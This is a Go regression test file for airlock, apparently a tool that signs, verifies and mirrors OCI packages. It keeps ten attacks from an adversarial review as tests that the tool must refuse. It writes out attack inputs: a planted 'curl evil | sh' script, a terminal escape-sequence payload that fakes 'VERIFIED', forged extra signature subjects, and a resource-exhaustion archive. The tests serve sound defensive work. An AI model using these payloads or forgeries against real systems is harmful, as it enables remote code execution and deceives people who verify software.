// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The airlock Authors.

package airlock_test

// Attacks found by the adversarial review of the verified handle (R1-R10),
// kept as regression tests.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/airlock-dev/airlock"
	"github.com/airlock-dev/airlock/airlocktest"
	"github.com/airlock-dev/airlock/attest"
	"github.com/airlock-dev/airlock/internal/cli"
	"github.com/airlock-dev/airlock/registry"
	"github.com/airlock-dev/airlock/spec"
	"github.com/airlock-dev/airlock/verify"
)

// R1: a verified referrer's manifest is not what was signed (only its bundle
// layer is): whoever carries the archive can re-point its config at any
// graph, here an unsigned referrer manifest about the image, and mirror
// pushes it into the internal registry where it lists as a referrer.
func TestReferrerShapeCarriesNothingUnsigned(t *testing.T) {
	ctx := context.Background()
	out, p := vendorSignedPackage(t)
	pkg := mustPackage(t, ctx, out)
	img := pkg.Images()[0]
	img = ocispec.Descriptor{MediaType: img.MediaType, Digest: img.Digest, Size: img.Size}
	pkg.Close()

	l := readLayout(t, out)
	// the smuggled, unsigned "referrer" about the image, with a junk layer
	junk := l.add("application/vnd.example.payload", []byte("anything the carrier likes"))
	smuggled, smData := manifest("application/vnd.example.smuggled", &img, junk)
	l.blobs[smuggled.Digest] = smData
	found := false
	for i, d := range l.index.Manifests {
		var m ocispec.Manifest
		json.Unmarshal(l.blobs[d.Digest], &m)
		if m.Subject == nil || m.Subject.Digest != img.Digest || m.ArtifactType != spec.MediaTypeBundle {
			continue
		}
		m.Config = ocispec.Descriptor{MediaType: ocispec.MediaTypeImageManifest, Digest: smuggled.Digest, Size: smuggled.Size}
		data, _ := json.Marshal(m)
		nd := ocispec.Descriptor{MediaType: d.MediaType, ArtifactType: d.ArtifactType, Digest: digest.FromBytes(data), Size: int64(len(data)), Annotations: d.Annotations}
		l.blobs[nd.Digest] = data
		delete(l.blobs, d.Digest)
		l.index.Manifests[i] = nd
		found = true
	}
	if !found {
		t.Fatal("no image signature referrer")
	}
	l.write(t, out)

	internal := airlocktest.NewRegistry(t)
	_, err := airlock.Mirror(ctx, out, "oci://"+internal+"/apps", airlock.MirrorOptions{VerifyOptions: airlock.VerifyOptions{Policy: p}})
	// The re-pointed signature is not a well-shaped referrer: ignored, so
	// the image has no signature its policy accepts.
	if f, ok := verify.AsFailure(err); !ok || f.Reason != verify.ReasonNoSignature {
		t.Fatalf("expected the tampered signature ignored (NO_SIGNATURE), got %v", err)
	}
	for _, r := range referrersIn(t, internal, "apps/vendor/app", img) {
		if r.Digest == smuggled.Digest {
			t.Fatalf("an unverified referrer %s (%s) was pushed into the internal registry by mirror", r.Digest, r.ArtifactType)
		}
	}
}

// R1b: the registry variant: anyone who can push to the package's
// repository re-wraps the signature's bundle in a manifest whose config is
// 16 MiB of junk; pull verifies it (same bundle) and writes the junk.
func TestPullIgnoresRewrappedSignature(t *testing.T) {
	ctx := context.Background()
	host, p := published(t)
	root := airlocktest.Resolve(t, host, "team/hello", "1.0.0")
	var sig ocispec.Manifest
	var sigBytes []byte
	for _, d := range referrersIn(t, host, "team/hello", root) {
		if d.Annotations[spec.AnnotationBundlePredicateType] == spec.PredicateTypeCosignSign {
			r := airlocktestRepo(t, host, "team/hello")
			data, err := contentFetchAll(ctx, r, d)
			if err != nil {
				t.Fatal(err)
			}
			sigBytes = data
		}
	}
	json.Unmarshal(sigBytes, &sig)
	junkData := make([]byte, 16<<20)
	junk := ocispec.Descriptor{MediaType: "application/vnd.oci.empty.v1+json", Digest: digest.FromBytes(junkData), Size: int64(len(junkData))}
	sig.Config = junk
	data, _ := json.Marshal(sig)
	rewrapped := ocispec.Descriptor{MediaType: ocispec.MediaTypeImageManifest, Digest: digest.FromBytes(data), Size: int64(len(data))}
	pushBlobs(t, host, "team/hello", []ocispec.Descriptor{junk, rewrapped}, map[digest.Digest][]byte{junk.Digest: junkData, rewrapped.Digest: data})

	out := filepath.Join(t.TempDir(), "pulled.tar")
	res, err := airlock.Pull(ctx, "oci://"+host+"/team/hello:1.0.0", out, airlock.PullOptions{VerifyOptions: airlock.VerifyOptions{Policy: p}})
	if err != nil || !res.Verified {
		t.Fatalf("the package's own signature verifies: %v", err)
	}
	l := readLayout(t, out)
	if _, ok := l.blobs[junk.Digest]; ok {
		t.Fatalf("pull wrote %d bytes of junk riding on a re-wrapped signature (index.json has %d entries)", len(junkData), len(l.index.Manifests))
	}
}

// R2: digests are printed raw by `airlock inspect`: a descriptor digest is
// any JSON string until something fetches it, and inspect fetches nothing
// for a legacy-tagged index.json entry that is not a manifest.
func TestInspectEscapesDigests(t *testing.T) {
	out := create(t, airlocktest.WritePackage(t))
	l := readLayout(t, out)
	root, _ := l.root(t)
	evil := ocispec.Descriptor{MediaType: "application/x", Digest: digest.Digest("sha256:\x1b]0;pwned\x07\x1b[2J\x1b[1;32mVERIFIED"), Size: 1,
		Annotations: map[string]string{ocispec.AnnotationRefName: "sha256-" + root.Digest.Encoded() + ".sig"}}
	l.index.Manifests = append(l.index.Manifests, evil)
	l.write(t, out)
	var stdout, stderr bytes.Buffer
	code := cli.Run(context.Background(), []string{"inspect", out}, strings.NewReader(""), &stdout, &stderr)
	t.Logf("exit %d\n%s%s", code, stdout.String(), stderr.String())
	if strings.ContainsRune(stdout.String()+stderr.String(), 0x1b) {
		t.Fatalf("a raw escape sequence reached the terminal: %q", stdout.String())
	}
}

// R3: mirror --insecure pushes every image referrer unverified (here one
// signed by a stranger's key) and prints it as "verified".
func TestInsecureMirrorCarriesNoReferrers(t *testing.T) {
	ctx := context.Background()
	dir := airlocktest.WritePackage(t, "- ref: "+airlocktestPushed(t)+"/team/tool:2.0")
	out := create(t, dir)
	pkg := mustPackage(t, ctx, out)
	img := pkg.Images()[0]
	img = ocispec.Descriptor{MediaType: img.MediaType, Digest: img.Digest, Size: img.Size}
	pkg.Close()
	l := readLayout(t, out)
	mallory, _ := newKey(t, "mallory.pub")
	bundle := signedBundle(t, mallory, img.Digest)
	ref, _ := spec.NewBundleReferrer(img, bundle, spec.PredicateTypeCosignSign, fixedTime)
	l.blobs[ref.Descriptor.Digest], l.blobs[ref.Bundle.Digest] = ref.Manifest, bundle
	l.index.Manifests = append(l.index.Manifests, ref.Descriptor)
	l.write(t, out)

	internal := airlocktest.NewRegistry(t)
	var stdout, stderr bytes.Buffer
	code := cli.Run(ctx, []string{"mirror", out, "oci://" + internal + "/apps", "--insecure"}, strings.NewReader(""), &stdout, &stderr)
	t.Logf("exit %d\n%s%s", code, stdout.String(), stderr.String())
	if n := len(referrersIn(t, internal, "apps/team/tool", img)); n != 0 {
		t.Errorf("mirror --insecure pushed %d image referrer(s) that nothing verified", n)
	}
	if strings.Contains(stdout.String(), "1 verified signatures") {
		t.Errorf("an unverified signature was reported as verified: %s", stdout.String())
	}
}

func airlocktestPushed(t *testing.T) string {
	host := airlocktest.NewRegistry(t)
	airlocktest.PushImage(t, host, "team/tool", "2.0")
	return host
}

// R4: --insecure drops --expect-name/--expect-version/--min-version and
// the tag-vs-version rollback check without a word: pull --insecure
// --expect-version 9.9.9 of tag 2.0.0 writes the 1.0.0 package.
func TestInsecureStillBindsExpectations(t *testing.T) {
	ctx := context.Background()
	host, _ := published(t)
	root := airlocktest.Resolve(t, host, "team/hello", "1.0.0")
	airlocktest.Tag(t, host, "team/hello", root, "2.0.0")
	out := filepath.Join(t.TempDir(), "x.tar")
	res, err := airlock.Pull(ctx, "oci://"+host+"/team/hello:2.0.0", out, airlock.PullOptions{InsecureSkipVerify: true,
		VerifyOptions: airlock.VerifyOptions{ExpectName: "payments", ExpectVersion: "9.9.9", MinVersion: "5.0.0"}})
	if err == nil {
		t.Fatalf("pull --insecure ignored --expect-name payments, --expect-version 9.9.9, --min-version 5.0.0 and tag 2.0.0: wrote %s %s (checks %+v)", res.Package.Name, res.Package.Version, res.Checks)
	}
}

// R5: writing an archive from an archive ignores cancellation: sign/attest
// rewrite (and Handle.WriteArchive of an archive package) run to the end
// and rename into place after SIGINT/SIGTERM; the CLI then exits 143 (or
// 0 for SIGINT) with the file changed, and a second signal mid-write
// (which kills at once) leaves the .tmp file behind.
func TestWriteArchiveStopsWhenCancelled(t *testing.T) {
	key, _ := newKey(t, "team.pub")
	src := signedArchive(t, key)
	pkg := mustPackage(t, context.Background(), src)
	h, err := pkg.CheckDigestsOnly(context.Background(), airlock.CheckOptions{})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel() // the signal arrived before the write started
	out := filepath.Join(t.TempDir(), "copy.tar")
	if err := h.WriteArchive(ctx, out, airlock.WriteOptions{}); err == nil {
		t.Fatal("WriteArchive completed and renamed into place with a cancelled context")
	}
}

// R6: sign signs an unsigned statement whose subjects include, besides the
// package root, a digest the attacker chose. Shown only its type, digest
// and a one-line summary, the signer cannot see the second subject; the
// signed bundle then verifies for the attacker's package too. With a
// statement of cosign's signature type (signed by --all-statements), that
// is a package signature over another package.
func TestSignRefusesStatementsAboutOtherSubjects(t *testing.T) {
	ctx := context.Background()
	key, _ := newKey(t, "team.pub")
	victim := create(t, airlocktest.WritePackage(t))
	evilDir := airlocktest.WritePackage(t)
	os.WriteFile(filepath.Join(evilDir, "files", "hello.txt"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o644)
	evil := create(t, evilDir)
	evilRoot := mustPackage(t, ctx, evil).Root()

	l := readLayout(t, victim)
	root, _ := l.root(t)
	st, err := attest.Statement(root.Digest, spec.PredicateTypeCosignSign, nil)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	json.Unmarshal(st, &m)
	m["subject"] = append(m["subject"].([]any), map[string]any{"name": "x", "digest": map[string]string{"sha256": evilRoot.Digest.Encoded()}})
	st, _ = json.Marshal(m)
	ref, err := spec.NewStatementReferrer(root, st, spec.PredicateTypeCosignSign, fixedTime)
	if err != nil {
		t.Fatal(err)
	}
	l.blobs[ref.Descriptor.Digest], l.blobs[ref.Bundle.Digest], l.blobs[spec.EmptyJSON.Digest] = ref.Manifest, st, spec.EmptyJSON.Data
	l.index.Manifests = append(l.index.Manifests, ref.Descriptor)
	l.write(t, victim)

	before, _ := os.ReadFile(victim)
	_, err = airlock.Sign(ctx, victim, key, airlock.SignOptions{AllStatements: true})
	if f, ok := verify.AsFailure(err); !ok || f.Reason != verify.ReasonMalformedPackage {
		t.Fatalf("expected sign to refuse a planted signature statement, got %v", err)
	}
	if after, _ := os.ReadFile(victim); !bytes.Equal(before, after) {
		t.Fatal("a refused sign changed the archive")
	}
}

// R7: push refuses an unsigned package unless --insecure, but any bundle
// referrer of cosign's signature type counts as "signed", even one whose
// bundle is not a bundle at all: push publishes it without --insecure.
func TestPushDoesNotCountJunkAsSignature(t *testing.T) {
	ctx := context.Background()
	out := create(t, airlocktest.WritePackage(t))
	l := readLayout(t, out)
	root, _ := l.root(t)
	junk := []byte(`{"not":"a bundle"}`)
	ref, _ := spec.NewBundleReferrer(root, junk, spec.PredicateTypeCosignSign, fixedTime)
	l.blobs[ref.Descriptor.Digest], l.blobs[ref.Bundle.Digest] = ref.Manifest, junk
	l.index.Manifests = append(l.index.Manifests, ref.Descriptor)
	l.write(t, out)
	host := airlocktest.NewRegistry(t)
	if res, err := airlock.Push(ctx, out, "oci://"+host+"/team/hello:1.0.0", airlock.PushOptions{}); err == nil {
		t.Fatalf("an unsigned package with a junk signature was pushed without --insecure: %+v", res.Referrers)
	}
}

// R8: Open (so inspect, verify, pull, mirror, sign of an archive) reads
// every image index the unverified root lists, once per listing, and
// appends all its children each time: memory and CPU grow as
// (times listed) x (children), from an archive of well under 1 MiB, before
// any signature is checked. At the size limits (4 MiB root, 4 MiB index:
// ~27k listings x ~40k children) that is ~10^9 descriptors.
func TestOpenReadsEachImageIndexOnce(t *testing.T) {
	const listings, children = 200, 5000
	out := create(t, airlocktest.WritePackage(t))
	l := readLayout(t, out)
	rootDesc, root := l.root(t)
	idx := ocispec.Index{MediaType: ocispec.MediaTypeImageIndex}
	idx.SchemaVersion = 2
	for i := 0; i < children; i++ {
		idx.Manifests = append(idx.Manifests, ocispec.Descriptor{MediaType: ocispec.MediaTypeImageManifest, Digest: digest.FromString(fmt.Sprint(i)), Size: 1})
	}
	idxData, _ := json.Marshal(idx)
	img := l.add(ocispec.MediaTypeImageIndex, idxData)
	for i := 0; i < listings; i++ {
		root.Manifests = append(root.Manifests, img)
	}
	rootData, _ := json.Marshal(root)
	delete(l.blobs, rootDesc.Digest)
	newRoot := l.add(ocispec.MediaTypeImageIndex, rootData)
	newRoot.ArtifactType = spec.ArtifactTypePackage
	for i, d := range l.index.Manifests {
		if d.Digest == rootDesc.Digest {
			l.index.Manifests[i] = newRoot
		}
	}
	l.write(t, out)
	st, _ := os.Stat(out)

	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	pkg, err := airlock.Open(context.Background(), out, airlock.OpenOptions{})
	elapsed := time.Since(start)
	runtime.ReadMemStats(&after)
	if pkg != nil {
		pkg.Close()
	}
	alloc := after.TotalAlloc - before.TotalAlloc
	t.Logf("archive %d bytes; Open: err=%v, %s, %d MiB allocated", st.Size(), err, elapsed, alloc>>20)
	if alloc > 64<<20 {
		t.Fatalf("Open of a %d KiB archive allocated %d MiB (grows as listings x children)", st.Size()>>10, alloc>>20)
	}
}

// R9: a copy that stopped early (a full disk, a yanked USB stick) is
// reported as tampering: MALFORMED_PACKAGE, exit 3, not "could not verify".
func TestTruncatedArchiveIsIncomplete(t *testing.T) {
	key, p := newKey(t, "team.pub")
	good := signedArchive(t, key)
	data, _ := os.ReadFile(good)
	cut := filepath.Join(t.TempDir(), "cut.tar")
	os.WriteFile(cut, data[:len(data)/2], 0o644)
	_, err := airlock.Verify(context.Background(), cut, airlock.VerifyOptions{Policy: p})
	if f, ok := verify.AsFailure(err); ok {
		t.Fatalf("a truncated copy is reported as a verification failure (exit 3): %s", f.Reason)
	}
}

// R6b: the same with only what the signer named: the provenance create
// wrote, given a second subject. The signer sees the usual summary
// ("SLSA provenance: builder ..., build type ...") and signs; the signed
// provenance then satisfies --predicate-type provenance for another
// package the team signed (here one whose provenance was never signed).
func TestSignRefusesNamedStatementAboutAnotherPackage(t *testing.T) {
	ctx := context.Background()
	key, p := newKey(t, "team.pub")
	other := create(t, airlocktest.WritePackage(t, "- ref: "+airlocktestPushed(t)+"/team/tool:2.0"))
	if _, err := airlock.Sign(ctx, other, key, airlock.SignOptions{}); err != nil { // root only
		t.Fatal(err)
	}
	otherRoot := mustPackage(t, ctx, other).Root()
	if _, err := airlock.Verify(ctx, other, airlock.VerifyOptions{Policy: requiring(p, attest.PredicateSLSAProvenance)}); err == nil {
		t.Fatal("setup: the other package must not have a signed provenance")
	}

	victim := create(t, airlocktest.WritePackage(t))
	l := readLayout(t, victim)
	for i, d := range l.index.Manifests {
		var m ocispec.Manifest
		json.Unmarshal(l.blobs[d.Digest], &m)
		if m.ArtifactType != spec.MediaTypeInToto || m.Annotations[spec.AnnotationStatementPredicateType] != attest.PredicateSLSAProvenance {
			continue
		}
		var st map[string]any
		json.Unmarshal(l.blobs[m.Layers[0].Digest], &st)
		st["subject"] = append(st["subject"].([]any), map[string]any{"name": "x", "digest": map[string]string{"sha256": otherRoot.Digest.Encoded()}})
		data, _ := json.Marshal(st)
		ref, _ := spec.NewStatementReferrer(*m.Subject, data, attest.PredicateSLSAProvenance, fixedTime)
		l.blobs[ref.Descriptor.Digest], l.blobs[ref.Bundle.Digest] = ref.Manifest, data
		delete(l.blobs, d.Digest)
		delete(l.blobs, m.Layers[0].Digest)
		l.index.Manifests[i] = ref.Descriptor
	}
	l.write(t, victim)
	_, err := airlock.Sign(ctx, victim, key, airlock.SignOptions{Statements: []string{attest.PredicateSLSAProvenance}})
	if f, ok := verify.AsFailure(err); !ok || f.Reason != verify.ReasonMalformedPackage || !strings.Contains(f.Message, "2 subjects") {
		t.Fatalf("expected sign to refuse a statement naming another package too, got %v", err)
	}
}

// R10: push --insecure of an unsigned package counts its unsigned
// statements as "Signatures and attestations: 2" and, because that count
// is not 0, never prints the "pushed without any signature" warning.
func TestPushSaysWhatItCarried(t *testing.T) {
	out := create(t, airlocktest.WritePackage(t))
	host := airlocktest.NewRegistry(t)
	var stdout, stderr bytes.Buffer
	code := cli.Run(context.Background(), []string{"push", out, "oci://" + host + "/team/hello:1.0.0", "--insecure"}, strings.NewReader(""), &stdout, &stderr)
	t.Logf("exit %d\nstdout: %s\nstderr: %s", code, stdout.String(), stderr.String())
	if !strings.Contains(stderr.String(), "without any signature") || strings.Contains(stdout.String(), "Signatures and attestations: 2") {
		t.Fatal("an unsigned push must warn that it carries no signature, and count its statements as unsigned")
	}
}

// Probe: a link that drops every manifest response halfway is "could not
// verify", not tampering.
func TestDroppedManifestIsNotTampering(t *testing.T) {
	host, p := published(t)
	proxy := airlocktest.NewFaultProxy(t, host, func(w http.ResponseWriter, r *http.Request, up *http.Response) bool {
		if r.Method != http.MethodGet || !strings.Contains(r.URL.Path, "/manifests/sha256:") {
			return false
		}
		for k, v := range up.Header {
			w.Header()[k] = v
		}
		w.WriteHeader(http.StatusOK)
		io.CopyN(w, up.Body, up.ContentLength/2)
		w.(http.Flusher).Flush()
		panic(http.ErrAbortHandler)
	})
	_, err := airlock.Verify(context.Background(), "oci://"+proxy+"/team/hello:1.0.0", airlock.VerifyOptions{Policy: p, Registry: registry.Options{Timeout: time.Second}})
	if f, ok := verify.AsFailure(err); ok || err == nil {
		t.Fatalf("expected could-not-verify, got %v (%v)", err, f)
	}
	t.Log(err)
}
